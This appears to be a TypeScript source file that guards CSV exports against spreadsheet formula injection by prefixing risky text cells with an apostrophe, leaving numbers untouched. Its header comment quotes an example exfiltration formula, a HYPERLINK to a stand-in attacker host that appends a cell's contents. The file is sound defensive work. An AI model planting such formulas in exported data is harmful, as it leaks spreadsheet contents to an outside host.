/**
 * Spreadsheet formula injection (OWASP "CSV injection"): Excel, LibreOffice and Google Sheets
 * evaluate a cell that begins with `=`, `+`, `-` or `@` (and some versions one that begins with a
 * tab or carriage return) as a formula, so text a coordinator, an import or a participant
 * supplied — `=HYPERLINK("https://evil.example/?"&A2, "Open")` in an arm label — would run in
 * the analyst's spreadsheet. Every CSV the platform writes passes its text cells through here.
 */
const FORMULA_TRIGGER = /^[=+\-@\t\r]/;

/** A plain decimal number (`-3`, `-0.5`, `+2`, `1e-3`): a spreadsheet reads it as that number, never as a formula. */
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

/**
 * The cell as a spreadsheet may safely open it: text that would start a formula gets a leading
 * apostrophe (which spreadsheets show as "this is text" and do not display); numbers, including
 * negative ones written as text, and every other text are unchanged.
 */
export function spreadsheetSafe(cell: string): string {
  return FORMULA_TRIGGER.test(cell) && !PLAIN_NUMBER.test(cell) ? `'${cell}` : cell;
}

/**
 * The `cast` option every csv-stringify writer uses: text through `spreadsheetSafe` (header
 * names too: csv-stringify casts them as strings), numbers as plain decimals. csv-stringify is
 * pure (no I/O), so the one rule lives here in the core and the writers only pass it on.
 */
export const spreadsheetSafeCast = {
  string: (value: string): string => spreadsheetSafe(value),
  number: (value: number): string => String(value),
} as const;
